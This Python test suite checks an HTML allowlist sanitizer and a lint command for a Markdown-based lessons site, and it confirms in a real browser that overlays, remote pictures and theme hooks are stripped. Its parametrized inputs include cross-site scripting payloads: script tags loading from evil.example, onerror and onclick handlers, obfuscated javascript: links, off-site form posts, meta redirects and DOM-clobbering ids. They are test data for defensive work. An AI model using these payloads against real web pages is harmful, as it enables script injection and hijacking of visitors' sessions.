"""The allowlist an entry's body is shown through, and the check that tells editors what it removes.

`sanitize_html` on its own: every payload the allowlist exists for is removed, and every
construct the site's Markdown extensions make survives unchanged. Then `lessons-kb check`
reports each planted case at its file and line, and a real build and Chromium show that an
overlay, a picture from another site and the theme's hooks never reach a reader's page.
"""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import zlib
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import markdown
import pytest
from helpers import Project, build_strict, lesson_md, line_of, new_project, serve
from lessons_kb.checks.body_html import prose
from lessons_kb.finish.sanitize import is_kept_id, is_site_file, sanitize_html
from pygments.token import STANDARD_TYPES

CLI = Path(sys.executable).parent / ("lessons-kb.exe" if os.name == "nt" else "lessons-kb")
LESSON = "content/lessons/pair-assessments.md"


def render(text: str) -> str:
    """A body as the site renders it: the extensions and settings of the site's mkdocs.yml."""
    extensions = [
        "tables",
        "attr_list",
        "md_in_html",
        "admonition",
        "toc",
        "pymdownx.details",
        "pymdownx.superfences",
    ]
    converter = markdown.Markdown(
        extensions=extensions, extension_configs={"toc": {"permalink": True}}
    )
    return converter.convert(text)


class _Events(HTMLParser):
    """What a browser builds from HTML, as a list: elements with their attributes, and text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "tbody":  # a table without one gets one, as in a browser
            self.events.append((tag, *sorted(f"{k}={v or ''}" for k, v in attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)  # `<img />` is `<img>`

    def handle_endtag(self, tag: str) -> None:
        if tag != "tbody":
            self.events.append((f"/{tag}",))

    def handle_data(self, data: str) -> None:
        self.events.append(("text", data))


def events(html: str) -> list[tuple[str, ...]]:
    parser = _Events()
    parser.feed(html)
    parser.close()
    return parser.events


def attributes(html: str) -> list[tuple[str, dict[str, str]]]:
    """Each element's tag and attributes."""
    return [
        (e[0], dict(a.split("=", 1) for a in e[1:]))
        for e in events(html)
        if e[0] != "text" and not e[0].startswith("/")
    ]


# --- What the allowlist removes --------------------------------------------------------------


@pytest.mark.parametrize(
    "dirty",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<style>body { display: none }</style>",
        "<iframe src='https://evil.example/'></iframe>",
        "<object data='x.swf'></object>",
        "<embed src='x.swf'>",
        "<form action='https://evil.example/'><input name='q'><button>Go</button></form>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href='https://evil.example/'>",
    ],
)
def test_elements_that_run_load_or_submit_are_removed(dirty: str) -> None:
    cleaned = sanitize_html(f"<p>before</p>{dirty}<p>after</p>")
    tags = {tag for tag, _ in attributes(cleaned)}
    assert tags <= {"p", "img"}, cleaned
    assert "alert" not in cleaned and "evil" not in cleaned and "display" not in cleaned
    assert cleaned.startswith("<p>before</p>") and cleaned.endswith("<p>after</p>")


@pytest.mark.parametrize(
    "dirty",
    [
        '<img src="pic.png" onerror="alert(1)">',
        '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
        '<details open ontoggle="alert(1)"><summary>s</summary></details>',
        '<a href="#x" onfocus="alert(1)" autofocus>x</a>',
    ],
)
def test_event_handlers_are_removed(dirty: str) -> None:
    cleaned = sanitize_html(dirty)
    assert all(not name.startswith("on") for _, attrs in attributes(cleaned) for name in attrs)
    assert "alert" not in cleaned and "autofocus" not in cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "jav&#x61;script:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ],
)
def test_links_lose_javascript_data_and_vbscript_addresses(href: str) -> None:
    assert sanitize_html(f'<a href="{href}">x</a>') == "<a>x</a>"


@pytest.mark.parametrize(
    "src",
    [
        "https://example.org/x.png",
        "http://example.org/x.png",
        "HTTPS://EXAMPLE.ORG/X.PNG",
        "//example.org/x.png",
        " //example.org/x.png",
        "\t//example.org/x.png",
        "\\\\example.org\\x.png",
        "/\\example.org/x.png",
        "https:example.org/x.png",
        "data:image/png;base64,AAAA",
        "javascript:alert(1)",
    ],
)
def test_pictures_from_elsewhere_are_removed(src: str) -> None:
    cleaned = sanitize_html(f'<p>a <img src="{src}" alt="remote"> b</p>')
    assert cleaned == "<p>a  b</p>"
    assert not is_site_file(src)


def test_media_from_elsewhere_are_removed() -> None:
    cleaned = sanitize_html(
        '<video src="https://example.org/v.mp4" controls>'
        '<source src="//example.org/v.webm" type="video/webm">'
        '<source src="media/v.mp4" type="video/mp4"></video>'
        '<audio src="https://example.org/a.mp3" controls></audio>'
    )
    assert "example.org" not in cleaned
    assert cleaned == (
        '<video controls=""><source src="media/v.mp4" type="video/mp4"></video>'
        '<audio controls=""></audio>'
    )


def test_srcset_and_poster_never_pass() -> None:
    cleaned = sanitize_html(
        '<img src="a.png" srcset="a-2x.png 2x, https://example.org/b.png 3x" alt="a">'
        '<video src="v.mp4" poster="p.png"></video>'
        '<video><source src="v.mp4" srcset="v2.mp4"></video>'
    )
    assert cleaned == (
        '<img src="a.png" alt="a"><video src="v.mp4"></video><video><source src="v.mp4"></video>'
    )


@pytest.mark.parametrize(
    "style",
    [
        "position:fixed;inset:0;background:red",
        "position: absolute; top: 0; left: 0; width: 100vw; height: 100vh",
        "background-image: url(https://example.org/track.png)",
        "text-align: right; position: fixed",
        "TEXT-ALIGN: right; z-index: 99",
        "text-align: expression(alert(1))",
    ],
)
def test_style_attributes_are_removed(style: str) -> None:
    cleaned = sanitize_html(
        f'<div style="{style}">a</div><span style="{style}">b</span>'
        f'<table><tr><th style="{style}">c</th><td style="{style}">d</td></tr></table>'
    )
    assert "style" not in cleaned, cleaned


@pytest.mark.parametrize(
    "value",
    [
        "__md_scope",
        "__md_hash",
        "_private",
        "md-header",
        "md-content",
        "lkb-body",
        "lkb-catalog-data",
        "pagefind-ui",
        "pagefindsearch",
        "getElementById",
        "Results",
        "location",
        "top",
        "parent",
        "self",
        "opener",
        "frames",
        "document",
        "window",
        "cookie",
        "domain",
        "forms",
        "images",
        "links",
        "body",
        "head",
        "has space",
        "-dash-first",
        "",
    ],
)
def test_ids_that_could_clobber_the_page_are_removed(value: str) -> None:
    assert not is_kept_id(value)
    assert sanitize_html(f'<h2 id="{value}">x</h2><img id="{value}" src="a.png">') == (
        '<h2>x</h2><img src="a.png">'
    )


@pytest.mark.parametrize(
    "value", ["what-we-found", "links_1", "2024-results", "a", "sdg-16_6", "_1", "_12"]
)
def test_heading_slugs_are_kept_as_ids(value: str) -> None:
    assert is_kept_id(value)
    assert sanitize_html(f'<h2 id="{value}">x</h2>') == f'<h2 id="{value}">x</h2>'


def test_name_is_removed() -> None:
    cleaned = sanitize_html('<a name="cookie" href="#x">a</a><img name="forms" src="a.png">')
    assert cleaned == '<a href="#x">a</a><img src="a.png">'


@pytest.mark.parametrize(
    "attribute",
    [
        'data-md-component="header"',
        'data-md-state="lock"',
        "data-pagefind-body",
        'data-pagefind-filter="country:x"',
        "data-pagefind-ignore",
        'data-anything="x"',
    ],
)
def test_data_attributes_are_removed(attribute: str) -> None:
    assert sanitize_html(f"<div {attribute}><p {attribute}>x</p></div>") == "<div><p>x</p></div>"


@pytest.mark.parametrize(
    "comment",
    [
        "<!-- lessons-kb:glance -->",
        "<!-- lessons-kb:offline -->",
        "<!--lkb:body-->",
        "<!--lkb:/body-->",
        "<!-- an editor's note -->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
    ],
)
def test_comments_are_removed(comment: str) -> None:
    assert sanitize_html(f"<p>a</p>\n{comment}\n<p>b</p>") == "<p>a</p>\n\n<p>b</p>"


def test_the_theme_and_site_classes_are_removed() -> None:
    cleaned = sanitize_html(
        '<div class="md-dialog lkb-body md-typeset">a</div>'
        '<span class="md-search__overlay lkb-panel">b</span>'
        '<p class="admonition-title md-banner">c</p>'
        '<div class="admonition danger md-header">d</div>'
    )
    assert cleaned == (
        '<div>a</div><span>b</span><p class="admonition-title">c</p>'
        '<div class="admonition danger">d</div>'
    )


# --- What the allowlist keeps ------------------------------------------------------------------

KEPT = {
    "table with alignment": """
| Country | Missions | Share |
|:--------|:--------:|------:|
| Saint Lucia | 3 | 40% |
""",
    "admonition": """
!!! warning "Check the dates"
    The workshop moved.

!!! tip inline end
    A side note.
""",
    "details": """
??? note "Who took part"
    Ministries.

???+ question "Open by default"
    Yes.
""",
    "highlighted code": """
```python title="count.py" hl_lines="2"
def count(items):
    return len(items)  # how many
```

```python linenums="1"
x = 1
```

```
plain text
```
""",
    "heading permalinks": """
## What we found

### What we found

## Lessons from 2024 {#lessons-2024}
""",
    "table of contents": "[TOC]\n\n## One\n\n## Two\n",
    "image with a relative src": """
![A chart](../images/chart.png "Missions by year")

<img src="../images/map.png" alt="A map" width="300" height="200">
""",
    "external link": """
[The report](https://example.org/report.pdf "The full report") and <https://example.org/>
and <a href="mailto:team@example.org">write to us</a> and [a section](#what-we-found).
""",
    "text-level markup": """
<abbr title="Small Island Developing States">SIDS</abbr> emit CO<sub>2</sub>; e = mc<sup>2</sup>.
Press <kbd>Ctrl</kbd>; <mark>marked</mark>, <del>old</del> <ins>new</ins>, <q>quoted</q>.
""",
    "html blocks with markdown": """
<div markdown>
*Emphasis* in a block, with a [link](../findings/skills-gap.md).
</div>

<figure markdown>
![A photo](../images/photo.jpg)
<figcaption>Castries, 2024</figcaption>
</figure>
""",
    "lists and quotes": """
1. First
2. Second
    - nested

> A quote
> on two lines

Term<br>
line break
""",
}


@pytest.mark.parametrize("name", sorted(KEPT))
def test_what_the_extensions_make_is_kept(name: str) -> None:
    html = render(KEPT[name])
    assert events(sanitize_html(html)) == events(html), html


def test_table_alignment_is_kept_as_text_align() -> None:
    html = render(KEPT["table with alignment"])
    cleaned = sanitize_html(html)
    for value in ("left", "center", "right"):
        assert f'<th style="text-align: {value};">' in cleaned
        assert f'<td style="text-align: {value};">' in cleaned
    # Written by hand, the alignment alone is kept too, in the same form.
    assert sanitize_html('<table><tr><td style="TEXT-ALIGN:Right">x</td></tr></table>') == (
        '<table><tbody><tr><td style="text-align: right;">x</td></tr></tbody></table>'
    )


def test_a_heading_permalink_is_kept_exactly() -> None:
    html = render("## What we found\n")
    assert sanitize_html(html) == (
        '<h2 id="what-we-found">What we found<a class="headerlink" href="#what-we-found" '
        'title="Permanent link">¶</a></h2>'
    )


def test_every_pygments_token_class_is_kept() -> None:
    classes = sorted(c for c in set(STANDARD_TYPES.values()) if c)
    spans = "".join(f'<span class="{c}">t</span>' for c in classes)
    html = f'<div class="highlight"><pre><span></span><code>{spans}</code></pre></div>'
    assert sanitize_html(html) == html


def test_the_admonition_types_the_theme_styles_are_kept() -> None:
    for kind in ("note", "abstract", "info", "tip", "success", "question", "warning"):
        for more in ("failure", "danger", "bug", "example", "quote"):
            html = f'<div class="admonition {kind} {more}"><p class="admonition-title">t</p></div>'
            assert sanitize_html(html) == html


def test_sanitized_html_is_left_as_it_is() -> None:
    html = sanitize_html(render("\n\n".join(KEPT.values())))
    assert sanitize_html(html) == html


# --- The check: what is removed, at its file and line ----------------------------------------

PLANTED = """
## Context

<div style="position:fixed;inset:0;background:red">Overlay</div>

<img src="https://example.org/chart.png" alt="A chart">

![A map](//cdn.example.org/map.png)

<p id="__md_scope" data-md-component="header">Theme hooks</p>

<span data-pagefind-filter="country:x" name="forms">Search hooks</span>

<script>alert("planted")</script>

<iframe src="https://www.youtube.com/embed/x"></iframe>

<a href="#context" onclick="alert(1)">a handler</a>

<!-- lessons-kb:glance -->

<!--lkb:/body-->

<!-- a note for the next editor -->

## Lesson

### Notes {#Notes}

Pair them. Code is text: `<script>alert("inline")</script>` and

```html
<img src="https://example.org/in-a-fence.png" style="color:red">
<!-- lessons-kb:glance -->
```

!!! note
    ```
    <iframe src="https://example.org/indented-fence"></iframe>
    ```

<img src="../images/chart.png" alt="A picture of this site">

| a | b |
|:--|--:|
| <b>bold</b> | [a link](https://example.org/) |

## Recommendations

Do it.
"""


def run_check(project: Project) -> tuple[int, list[dict[str, Any]]]:
    """`lessons-kb check --format json` on the project: its exit status and its problems."""
    result = subprocess.run(
        [str(CLI), "check", "--format", "json"],
        cwd=project.root,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    return result.returncode, json.loads(result.stdout)["problems"]


@pytest.fixture
def planted(project: Project) -> Path:
    text = lesson_md()
    head = text[: text.index("\n## Context")]
    return project.write(LESSON, head + "\n" + PLANTED)


#: (text on the line, severity, words of the message) of each planted case.
EXPECTED = [
    ('style="position:fixed', "warning", "the `style` attribute (`position:fixed;inset:0;"),
    ("https://example.org/chart.png", "error", "is not a file of this site"),
    ("//cdn.example.org/map.png", "error", "is not a file of this site"),
    ('id="__md_scope"', "warning", "the id `__md_scope` is removed"),
    ('id="__md_scope"', "warning", "`data-md-component` is removed"),
    ("data-pagefind-filter", "warning", "`data-pagefind-filter` is removed"),
    ("data-pagefind-filter", "warning", "the `name` attribute (`forms`) is removed"),
    ('<script>alert("planted")', "warning", "a `<script>` is removed"),
    ('<iframe src="https://www.youtube.com', "warning", "embedded page or player (`<iframe>`)"),
    ('onclick="alert(1)"', "warning", "the event handler `onclick` is removed"),
    ("<!-- lessons-kb:glance -->", "error", "reserved for the site's own pages"),
    ("<!--lkb:/body-->", "error", "reserved for the site's own pages"),
    ("### Notes {#Notes}", "warning", "the id `Notes` is removed"),
]


def test_the_check_reports_each_planted_case_at_its_line(project: Project, planted: Path) -> None:
    status, problems = run_check(project)
    assert status == 1
    found = sorted((p["file"], p["line"], p["severity"], p["message"]) for p in problems)
    expected = []
    for needle, severity, words in EXPECTED:
        line = line_of(planted, needle, after="## Context")
        matches = [f for f in found if f[1] == line and f[2] == severity and words in f[3]]
        assert len(matches) == 1, (needle, line, words, found)
        expected.append(matches[0])
    assert all(file == LESSON for file, *_ in found)
    # Nothing else: not the code, not the plain comment, not what is kept.
    assert sorted(expected) == found


def test_each_problem_says_what_to_write_instead(project: Project, planted: Path) -> None:
    _, problems = run_check(project)
    assert problems and all(p["hint"] for p in problems)
    hints = {p["message"].split(" ", 2)[1]: p["hint"] for p in problems}
    assert "docs/images/" in hints["picture"] and "link to it instead" in hints["picture"]


def test_the_check_reads_html_only_outside_code() -> None:
    body = "`<b>` <i>\n```\n<script>\n```\nx \\<b>\n    ~~~\n    <s>\n    ~~~\n"
    text = prose(body)
    assert text.split("\n") == ["      <i>", "", "", "", "x   b>", "", "", "", ""]


def test_pictures_and_ids_of_this_site_pass_the_check(project: Project) -> None:
    for name in ("chart.png", "map.png"):  # pictures are files of the site, in docs/
        (project.root / "docs/images").mkdir(parents=True, exist_ok=True)
        (project.root / "docs/images" / name).write_bytes(pixel())
    text = lesson_md()
    head, rest = text[: text.index("\n## Context")], text[text.index("\n## Context") :]
    project.write(
        LESSON,
        head
        + '\n![A chart](../images/chart.png)\n\n<img src="../images/map.png" alt="map">\n\n'
        + '<div id="key-figures" class="admonition note" markdown>Kept.</div>\n\n'
        + "| a |\n|--:|\n| <b>x</b> |\n\n"
        + '<table><tr><td style="text-align: right">1</td></tr></table>\n\n'
        + "[a link](https://example.org/) and <!-- an editor's note -->\n"
        + rest,
    )
    assert run_check(project) == (0, [])


# --- A real build and a real browser ----------------------------------------------------------

HOOKS_BODY = """
<div style="position:fixed;inset:0;background:red;z-index:1000" id="lkb-overlay">Overlay</div>

<p id="__md_scope" data-md-component="header" data-md-state="lock">Theme hooks</p>

![A chart](../images/chart.png)
"""
REMOTE_PICTURE = '<p><img src="https://example.org/x.png" alt="remote"></p>'


def pixel() -> bytes:
    """A picture one pixel wide: red, opaque, as PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    rows = zlib.compress(b"\x00\xff\x00\x00\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def hooks_site(root: Path, body: str) -> Project:
    project = new_project(root)
    (project.root / "docs/images").mkdir(parents=True)
    (project.root / "docs/images/chart.png").write_bytes(pixel())
    text = lesson_md()
    project.write(LESSON, text.replace("\n## Context\n", "\n" + body + "\n## Context\n", 1))
    return project


def lesson_page(project: Project) -> str:
    return project.site("lessons/pair-assessments/index.html").read_text("utf-8")


def test_a_remote_picture_stops_the_build(tmp_path: Path) -> None:
    project = hooks_site(tmp_path / "kb", REMOTE_PICTURE)
    result = project.build()
    assert result.returncode != 0
    assert "is not a file of this site" in result.stdout + result.stderr


def test_a_strict_build_stops_on_what_the_site_removes(tmp_path: Path) -> None:
    project = hooks_site(tmp_path / "kb", HOOKS_BODY)
    with pytest.raises(AssertionError, match="style` attribute"):
        build_strict(project.root)


def test_the_build_shows_the_body_without_overlay_or_hooks(tmp_path: Path) -> None:
    project = hooks_site(tmp_path / "kb", HOOKS_BODY)
    project.build(check=True)  # warnings only: not strict
    html = lesson_page(project)
    body = html[html.index('<div class="lkb-body">') :]
    body = body[: body.index("</article>")]
    assert "Overlay" in body and "Theme hooks" in body  # the text stays
    for gone in ("position:fixed", "lkb-overlay", "__md_scope", "data-md-", "style="):
        assert gone not in body, gone
    assert '<img alt="A chart" src="../../images/chart.png">' in body


FIND_IN_BODY = """() => {
  const body = document.querySelector(".lkb-body");
  const fixed = [...document.querySelectorAll("body *")].filter(
    (el) => ["fixed", "absolute"].includes(getComputedStyle(el).position)
      && el.closest(".lkb-body"));
  const centre = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
  const images = [...document.images];
  const HOOKS = "[data-md-component], [data-md-state], [id^='__']";
  return {
    body: body !== null,
    styled: body ? body.querySelectorAll("[style]").length : -1,
    fixed: fixed.length,
    redAtCentre: centre !== null && getComputedStyle(centre).backgroundColor === "rgb(255, 0, 0)",
    scopeElement: document.getElementById("__md_scope") !== null,
    scopeIsUrl: typeof __md_scope === "object" && __md_scope instanceof URL,
    hooksInBody: body ? body.querySelectorAll(HOOKS).length : -1,
    remoteImages: images.filter((i) => new URL(i.src).origin !== location.origin).length,
    localImageLoaded: images.some((i) => /chart\\.png$/.test(i.src) && i.naturalWidth > 0),
    text: body ? body.innerText : "",
  };
}"""


@pytest.mark.browser
def test_no_overlay_remote_picture_or_hook_reaches_the_page_in_chromium(
    browser, tmp_path: Path
) -> None:
    """The body goes through the real build (the check lets the overlay and the hooks
    through as warnings); the remote picture, which the check refuses as an error, is
    added to the built body through `sanitize_html`, as the build would have."""
    project = hooks_site(tmp_path / "kb", HOOKS_BODY)
    project.build(check=True)
    path = project.site("lessons/pair-assessments/index.html")
    html = path.read_text("utf-8")
    marker = '<div class="lkb-body">'
    assert marker in html
    path.write_text(html.replace(marker, marker + sanitize_html(REMOTE_PICTURE), 1), "utf-8")
    elsewhere: list[str] = []
    with serve(project.site()) as base:
        context = browser.new_context()

        def route(request_route: Any) -> None:
            url = request_route.request.url
            if url.startswith(base) or url.startswith(("data:", "blob:")):
                request_route.continue_()
            else:
                elsewhere.append(url)
                request_route.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.goto(f"{base}/lessons/pair-assessments/", wait_until="networkidle")
        found = page.evaluate(FIND_IN_BODY)
        context.close()
    assert elsewhere == []
    assert found["body"] and "Overlay" in found["text"] and "Theme hooks" in found["text"]
    assert found["styled"] == 0 and found["fixed"] == 0 and not found["redAtCentre"]
    assert not found["scopeElement"] and found["scopeIsUrl"]
    assert found["hooksInBody"] == 0 and found["remoteImages"] == 0
    assert found["localImageLoaded"]
